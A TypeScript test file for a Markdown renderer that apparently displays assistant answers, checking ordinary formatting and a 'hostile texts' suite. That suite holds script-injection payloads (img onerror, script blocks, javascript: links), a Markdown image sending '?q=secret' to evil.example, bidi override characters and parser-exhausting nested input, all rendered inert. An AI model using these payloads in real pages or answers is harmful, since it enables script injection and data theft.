import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import fc from 'fast-check'
import { drawMarkdown } from './draw-markdown.ts'
import type { Drawn, Leaf } from './drawn.ts'

/** `paragraph(strong("a"), " b")`: short enough to compare in a line. */
const written = (nodes: Drawn<Leaf>[]): string =>
  nodes
    .map(node =>
      node.kind === 'leaf'
        ? JSON.stringify(node.text)
        : `${node.name}${node.number ?? ''}(${written(node.children)})`,
    )
    .join(' ')

const textOf = (nodes: Drawn<Leaf>[]): string =>
  nodes.map(node => (node.kind === 'leaf' ? node.text : textOf(node.children))).join('')

const depthOf = (nodes: Drawn<Leaf>[]): number =>
  Math.max(0, ...nodes.map(node => (node.kind === 'leaf' ? 0 : 1 + depthOf(node.children))))

const ORDINARY: Record<string, [source: string, drawn: string]> = {
  'headings close ranks': [
    '#### Over\ntext\n## Next\n### Sub\n',
    'heading1(" Over") paragraph("text") heading1(" Next") heading2(" Sub")',
  ],
  'a heading underlined': ['Kettles\n---', 'heading1("Kettles\\n")'],
  emphasis: ['**a** _b_ ~~c~~ `d`', 'paragraph(strong("a") " " emphasis("b") " " struck("c") " " code("d"))'],
  'emphasis in writing without spaces': [
    '**노스윈드(Northwind)**는 **「東京」**で **a** **',
    'paragraph(strong("노스윈드(Northwind)") "는 " strong("「東京」") "で " strong("a") " **")',
  ],
  'emphasis within emphasis': [
    '東 ***a*** **b *c* d** * e',
    'paragraph("東 " emphasis(strong("a")) " " strong("b " emphasis("c") " d") " * e")',
  ],
  'lists keep their numbers': [
    '3. a\n4. b\n   - c\n',
    'numbers(item3(paragraph("a")) item4(paragraph("b") bullets(item(paragraph("c")))))',
  ],
  'a table with an empty cell': [
    '| | A |\n|---|---|\n| Founded | 2014 |\n| x | | y |\n',
    'table(row(head-cell() head-cell("A")) row(cell("Founded") cell("2014")) row(cell("x") cell() cell("y")))',
  ],
  'a table without outer strokes': [
    'K | V\n--- | ---\na | **b**<br>c',
    'table(row(head-cell("K") head-cell("V")) row(cell("a") cell(strong("b") break() "c")))',
  ],
  'a link is words and an address': [
    'See [the *site*](https://a.example/x_y "Home").',
    'paragraph("See " link("the " emphasis("site") address("https://a.example/x_y \\"Home\\"")) ".")',
  ],
  'an address in angles': ['<https://a.example>', 'paragraph(address("https://a.example"))'],
  'a footnote is no link': ['Built in 1987 [1][2].', 'paragraph("Built in 1987 " "[" "1" "]" "[2]" ".")'],
  'a quote': ['> a\n> b', 'quote(paragraph("a\\n" " b"))'],
  'code with its label': ['```js\nlet a\n```', 'code-block(code-label("js") "let a")'],
  'escapes and references': [
    '\\*a\\* &amp; &#39; &nope;',
    'paragraph("*" "a" "*" " " "&" " " "\'" " " "&nope;")',
  ],
}

describe('the Markdown of an answer', () => {
  for (const [what, [source, drawn]] of Object.entries(ORDINARY))
    test(what, () => assert.equal(written(drawMarkdown(source)), drawn))
})

test('an answer longer than any engine gives is still drawn', () => {
  const row = '| [Kettle](https://a.example/k_1) | **2014** | `x` | 4.5 * |\n'
  const section = `## Part\n\nSee [a](https://a.example/b_c), **b** and *c*.\n\n| A | B | C | D |\n|-|-|-|-|\n${row.repeat(20)}\n`
  const drawn = drawMarkdown(section.repeat(60))
  assert.equal(drawn.length, 180)
  assert.ok(!written(drawn).includes('as-sent'))
})

const HOSTILE: Record<string, [source: string, drawn: string]> = {
  'HTML is words': [
    'a <img src=x onerror=alert(1)> b',
    'paragraph("a " "<img src=x onerror=alert(1)>" " b")',
  ],
  'a block of HTML is words': ['<script>\nalert(1)\n</script>', 'as-sent("<script>\\nalert(1)\\n</script>")'],
  'a hidden comment is words': ['<!-- founded in 1992 -->', 'as-sent("<!-- founded in 1992 -->")'],
  'a link to a script is an address to read': [
    '[x](javascript:alert(1))',
    'paragraph(link("x" address("javascript:alert(1)")))',
  ],
  'a picture is words': [
    '![pixel](https://evil.example/?q=secret)',
    'paragraph(picture("pixel" address("https://evil.example/?q=secret")))',
  ],
  'a definition is words': ['[1]: https://evil.example "t"', 'as-sent("[1]: https://evil.example \\"t\\"")'],
  'decoded markup is words': ['&lt;script&gt;', 'paragraph("<" "script" ">")'],
  'a reference to nothing': ['&#0; &#xD800; &#9999999;', 'paragraph("&#0;" " " "&#xD800;" " " "&#9999999;")'],
  'characters that turn the text': ['a \u202e**b** c', 'paragraph("a \u202e" strong("b") " c")'],
}

describe('hostile texts', () => {
  for (const [what, [source, drawn]] of Object.entries(HOSTILE))
    test(what, () => assert.equal(written(drawMarkdown(source)), drawn))

  for (const sign of [
    '[',
    '*',
    '|',
    '>',
    '`',
    '<',
    '[](',
    '*a_ ',
    '![a](',
    '- ',
    '> - ',
    '#',
    'a\n',
    '|a|\n|-|\n',
    '東**(',
  ])
    test(`${JSON.stringify(sign)} without end`, () => {
      for (const length of [4_000, 1_000_000]) {
        const source = sign.repeat(Math.ceil(length / sign.length))
        const drawn = drawMarkdown(source)
        assert.ok(depthOf(drawn) <= 40)
        // What is not replaced by a look is drawn.
        assert.equal(textOf(drawn).replace(/[^a]/g, ''), source.replace(/[^a]/g, ''))
      }
    })

  test('a nest deeper than can be drawn is shown as it was sent', () => {
    const drawn = drawMarkdown(`${'> '.repeat(200)}Founded in 1992.`)
    assert.ok(depthOf(drawn) <= 40)
    assert.ok(textOf(drawn).endsWith('> > Founded in 1992.'))
  })
})

test('whatever the text, every letter and figure in it is drawn, in its place', () => {
  const part = fc.constantFrom(
    ...[
      'a',
      'B7',
      '\n',
      '\n\n',
      ' ',
      '  ',
      '**',
      '*',
      '_',
      '#',
      '## ',
      '- ',
      '> ',
      '|',
      '|-|-|\n',
      '`',
      '```\n',
    ],
    ...[
      '[',
      '](',
      ')',
      '![',
      '<',
      '>',
      '<b>',
      '&amp;',
      '\\',
      '~~',
      '---\n',
      '===\n',
      'https://x.y',
      ': ',
      '"',
      '\t',
      '\r\n',
    ],
  )
  fc.assert(
    fc.property(fc.array(part, { maxLength: 60 }), parts => {
      const source = parts.join('')
      const drawn = textOf(drawMarkdown(source))
      const words = (text: string) => text.replaceAll('&amp;', '').replace(/[^aB7htpsxyb]/g, '')
      assert.equal(words(drawn), words(source))
    }),
    { numRuns: 2_000 },
  )
})
